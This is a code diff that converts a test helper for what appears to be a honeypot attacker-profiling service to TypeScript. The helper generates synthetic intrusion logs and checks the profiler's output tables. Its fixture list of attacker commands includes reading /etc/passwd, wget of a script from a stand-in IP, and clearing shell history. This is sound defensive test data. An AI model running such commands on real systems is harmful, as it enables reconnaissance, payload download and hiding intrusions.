@@ -4,18 +4,39 @@
  */
 import assert from 'node:assert/strict'
 
-import {batchCommands} from '../../dist/db/bulk/command-batches.js'
-import {foldAttacker} from '../../dist/workers/profiler/fold.js'
-import {ProfilerSemantics} from '../../dist/workers/profiler/semantics.js'
+import type {Kysely} from 'kysely'
+
+import {batchCommands} from '../../src/db/bulk/command-batches.js'
+import type {Database, LogRow, NewLog} from '../../src/db/schema.js'
+import {foldAttacker} from '../../src/workers/profiler/fold.js'
+import {ProfilerSemantics} from '../../src/workers/profiler/semantics.js'
+
+/** A row with its counters and ids as numbers (whatever the driver returned), keys sorted. */
+export type NormalisedRow = Record<string, unknown>
+
+/** The profiler's tables in a comparable form: attackers by IP, command rows (with their `ip`) by log id. */
+export interface ProfileTables {
+  attackers: NormalisedRow[]
+  commands: NormalisedRow[]
+}
+
+/** How {@link makeLogs} draws its rows. */
+export interface MakeLogsOptions {
+  /** How many attacker IPs (default 50). */
+  attackers?: number
+  seed?: number
+  /** The minute the first row is near (default 0). */
+  startMinute?: number
+}
 
 const DECKIES = ['decky-01', 'decky-02', 'decky-03', 'decky-04', 'decky-05']
 const SERVICES = ['ssh', 'telnet', 'http', 'ftp']
 const COMMANDS = ['uname -a', 'cat /etc/passwd', 'wget http://198.51.100.9/x.sh', 'id', 'history -c']
 
 /** A deterministic pseudo-random source. */
-function random(seed) {
+function random(seed: number): (n: number) => number {
   let state = seed >>> 0
-  return (n) => {
+  return (n: number): number => {
     state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
     return state % n
   }
@@ -26,9 +47,9 @@ function random(seed) {
  * connects, failed and successful logins and commands, several deckies, and
  * timestamps a little out of order.
  */
-export function makeLogs(count, {attackers = 50, seed = 1, startMinute = 0} = {}) {
+export function makeLogs(count: number, {attackers = 50, seed = 1, startMinute = 0}: MakeLogsOptions = {}): NewLog[] {
   const rand = random(seed)
-  const rows = []
+  const rows: NewLog[] = []
   for (let i = 0; i < count; i++) {
     const minute = startMinute + i / 10 + rand(30) / 10 - 1.5
     const timestamp = new Date(Date.UTC(2026, 10, 26, 12, 0, 0) + Math.round(minute * 60_000)).toISOString()
@@ -37,8 +58,8 @@ export function makeLogs(count, {attackers = 50, seed = 1, startMinute = 0} = {}
     const service = SERVICES[rand(SERVICES.length)]
     const kind = rand(10)
     let eventType = 'connect'
-    let fields = {src_ip: ip}
-    let msg = null
+    let fields: Record<string, string | null> = {src_ip: ip}
+    let msg: string | null = null
     if (kind < 3) {
       eventType = 'login_failed'
       fields = {...fields, password: 'hunter2', user: 'root'}
@@ -67,33 +88,34 @@ export function makeLogs(count, {attackers = 50, seed = 1, startMinute = 0} = {}
 }
 
 /** Inserts rows into `logs` in chunks (one transaction per chunk). */
-export async function insertLogs(db, rows, chunkSize = 2000) {
+export async function insertLogs(db: Kysely<Database>, rows: readonly NewLog[], chunkSize = 2000): Promise<void> {
   for (let i = 0; i < rows.length; i += chunkSize) {
     await db.insertInto('logs').values(rows.slice(i, i + chunkSize)).execute()
   }
 }
 
 /** The attackers table and command rows, in a comparable order. */
-export async function readProfiles(db) {
+export async function readProfiles(db: Kysely<Database>): Promise<ProfileTables> {
   const attackers = await db.selectFrom('attackers').selectAll().orderBy('ip').execute()
   const batches = await db.selectFrom('attacker_command_batches').selectAll().execute()
   const commands = batches.flatMap((batch) => batchCommands(batch).map((command) => normalise({...command, ip: batch.ip})))
-  commands.sort((a, b) => a.log_id - b.log_id)
+  commands.sort(byLogId)
   return {attackers: attackers.map(normalise), commands}
 }
 
 /** What the profiler must have built from every row of `logs`: one fold of each attacker's whole history. */
-export async function expectedProfiles(db) {
+export async function expectedProfiles(db: Kysely<Database>): Promise<ProfileTables> {
   const logs = await db.selectFrom('logs').selectAll().orderBy('id').execute()
-  const byIp = new Map()
+  const byIp = new Map<string, LogRow[]>()
   for (const row of logs) {
     if (!row.attacker_ip) continue
-    if (!byIp.has(row.attacker_ip)) byIp.set(row.attacker_ip, [])
-    byIp.get(row.attacker_ip).push(row)
+    const rows = byIp.get(row.attacker_ip) ?? []
+    rows.push(row)
+    byIp.set(row.attacker_ip, rows)
   }
 
-  const attackers = []
-  const commands = []
+  const attackers: NormalisedRow[] = []
+  const commands: NormalisedRow[] = []
   const semantics = new ProfilerSemantics()
   for (const [ip, rows] of byIp) {
     const folded = foldAttacker(undefined, ip, rows, semantics)
@@ -101,16 +123,19 @@ export async function expectedProfiles(db) {
     commands.push(...folded.commands.map((command) => normalise({...command, ip})))
   }
 
-  attackers.sort((a, b) => (a.ip < b.ip ? -1 : 1))
-  commands.sort((a, b) => a.log_id - b.log_id)
+  attackers.sort((a, b) => (String(a.ip) < String(b.ip) ? -1 : 1))
+  commands.sort(byLogId)
   return {attackers, commands}
 }
 
+function byLogId(a: NormalisedRow, b: NormalisedRow): number {
+  return Number(a.log_id) - Number(b.log_id)
+}
+
 /** Numbers as numbers whatever the driver returned, keys sorted. */
-function normalise(row) {
-  const out = {}
-  for (const key of Object.keys(row).sort()) {
-    const value = row[key]
+function normalise(row: object): NormalisedRow {
+  const out: NormalisedRow = {}
+  for (const [key, value] of Object.entries(row).sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0))) {
     out[key] = typeof value === 'bigint' || (typeof value === 'string' && /_(count|attempts|id)$|^is_/.test(key) && /^\d+$/.test(value)) ? Number(value) : value
   }
 
@@ -122,7 +147,7 @@ function normalise(row) {
  * `logs` from scratch gives: each attacker's event_count is the number of its
  * lines, no command row is there twice, every column matches.
  */
-export async function assertProfilesExact(db) {
+export async function assertProfilesExact(db: Kysely<Database>): Promise<void> {
   const built = await readProfiles(db)
   const counts = await db
     .selectFrom('logs')
